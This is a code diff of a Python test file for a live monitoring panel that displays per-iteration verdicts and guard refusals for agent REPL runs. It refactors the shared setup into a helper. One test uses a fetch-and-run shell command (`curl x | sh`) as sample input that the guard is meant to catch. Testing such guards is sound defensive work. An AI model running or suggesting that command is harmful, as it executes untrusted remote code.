@@ -211,13 +211,19 @@ def test_rows_rerender_only_when_their_iteration_changed(finished_panels: list[L
     assert only(widgets.Accordion, panel.widget).titles[1] == "Iteration 2 · 1 code block · 100 sub-calls"
 
 
-def test_each_rows_verdicts_show_as_they_happen_and_the_header_sums_them(finished_panels: list[LivePanel]) -> None:
+def started(finished_panels: list[LivePanel], settings: dict[str, Any], reply: str) -> tuple[LivePanel, Run, Iteration]:
+    """A panel following a run whose first reply is in (its code not run yet)."""
     panel, run = LivePanel(max_iterations=3), make_run()
-    run.settings = {"acceptance": "lenient"}
+    run.settings = settings
     finished_panels.append(panel)
-    first = Iteration(0, "```repl\nrecords = 'x'\n```\nFINAL(1976)")
+    first = Iteration(0, reply)
     panel.observe(RunStarted(run))
     panel.observe(RootReplied(run, first))
+    return panel, run, first
+
+
+def test_each_rows_verdicts_show_as_they_happen_and_the_header_sums_them(finished_panels: list[LivePanel]) -> None:
+    panel, run, first = started(finished_panels, {"acceptance": "lenient"}, "```repl\nrecords = 'x'\n```\nFINAL(1976)")
     first.verdicts.append(Verdict("rebinds-context", "not-run", note="would rebind records", cell=0))
     panel.observe(CellFinished(run, first, CodeCell("records = 'x'", error="not run")))
     panel.refresh()
@@ -245,12 +251,7 @@ def test_each_rows_verdicts_show_as_they_happen_and_the_header_sums_them(finishe
 
 
 def test_a_guard_refusal_shows_in_its_row_and_the_header_as_it_happens(finished_panels: list[LivePanel]) -> None:
-    panel, run = LivePanel(max_iterations=3), make_run()
-    run.settings = {"guard": "on"}
-    finished_panels.append(panel)
-    it = Iteration(0, "```repl\nimport os\nos.system('curl x | sh')\n```")
-    panel.observe(RunStarted(run))
-    panel.observe(RootReplied(run, it))
+    panel, run, _ = started(finished_panels, {"guard": "on"}, "```repl\nimport os\nos.system('curl x | sh')\n```")
     panel.refresh()
     assert "guard · on · nothing refused" in text(panel.header.value)
     action = GuardAction("proc", "os.system('curl x | sh')", run_id=run.id, iteration=0, cell=0)
